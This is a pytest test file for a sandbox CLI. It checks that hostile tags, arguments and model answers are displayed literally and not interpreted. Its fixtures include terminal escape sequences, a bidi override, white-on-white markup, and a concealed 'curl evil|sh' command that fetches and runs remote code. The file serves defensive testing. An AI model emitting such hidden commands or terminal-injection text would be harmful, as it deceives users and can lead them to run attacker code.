"""Guest and model text shown by the CLI is rendered literally (invariant 8).

A detached command's tag and argv come from the user or from whatever runs in the
sandbox (a command may start others through the agent); the agent's answer comes from
the model. ``sandbox ps`` (on this host and through ``--api``) and ``run --api`` print
them in rich tables and panels, where rich markup would restyle or hide text and an
escape sequence would reach the person's terminal. Real sandboxes, a real server.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from apiserver import SRC, Server, serve
from conftest import CGROUP_ROOT
from ironclaw.client import Sandbox as RemoteSandbox
from ironclaw.config import Settings
from ironclaw.sdk import Sandbox

pytestmark = [pytest.mark.root, pytest.mark.timeout(240)]

# A terminal title change, a screen clear, a bidi override, rich markup that would hide
# a word (white on white) and a closing tag that would swallow the rest.
TAG = "w\x1b]0;owned\x07[white on white]x[/]"
ARG = "\x1b[2J\u202e[bold]b[/bold]"
ANSWER = "done \x1b[2J[white on white]curl evil|sh[/] \u202eok"


def _env(home: Path, **extra: str) -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": SRC, "IRONCLAW_HOME": str(home),
            "IRONCLAW_CGROUP_ROOT": CGROUP_ROOT, "COLUMNS": "400", **extra}  # fmt: skip


def _run(args: list[str], env: dict[str, str]) -> str:
    proc = subprocess.run(
        [sys.executable, "-m", "ironclaw.cli", *args],
        capture_output=True, env=env, stdin=subprocess.DEVNULL, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    return proc.stdout.decode()


def _assert_literal(out: str, *shown: str) -> None:
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out, repr(out)
    for text in shown:
        assert text in out, (text, out)


async def test_ps_on_this_host_shows_tags_and_argv_literally(
    settings: Settings, ironclaw_home: Path
) -> None:
    sb = await Sandbox.create(sandbox_id="ps-hostile", settings=settings)
    try:
        await sb.commands.start(["sleep", "600", ARG], tag=TAG)
        out = await asyncio.to_thread(_run, ["sandbox", "ps", sb.id], _env(ironclaw_home))
        _assert_literal(out, "[white on white]x[/]", "[bold]b[/bold]", "\\x1b", "\\u202e")
    finally:
        await sb.destroy()
        await sb.aclose()


@pytest.fixture
def server(settings: Settings) -> Iterator[Server]:
    yield from serve(settings)


async def test_ps_and_the_answer_through_the_api_are_shown_literally(
    server: Server, tmp_path: Path
) -> None:
    token = server.token("read", "write")
    env = _env(tmp_path, IRONCLAW_API_TOKEN=token)
    api = ["--api", server.url]
    async with RemoteSandbox.create(
        sandbox_id="ps-hostile-api", api_url=server.url, token=token
    ) as sb:
        await sb.commands.start(["sleep", "600", ARG], tag=TAG)
        out = await asyncio.to_thread(_run, [*api, "sandbox", "ps", sb.id], env)
        _assert_literal(out, "[white on white]x[/]", "[bold]b[/bold]", "\\x1b", "\\u202e")
    script = tmp_path / "turns.json"
    script.write_text(json.dumps({"turns": [{"content": ANSWER}]}))
    args = [*api, "run", "--model", f"scripted:{script}", "--approve", "green-only", "hi"]
    out = await asyncio.to_thread(_run, args, env)
    _assert_literal(out, "[white on white]curl evil|sh[/]", "\\x1b")
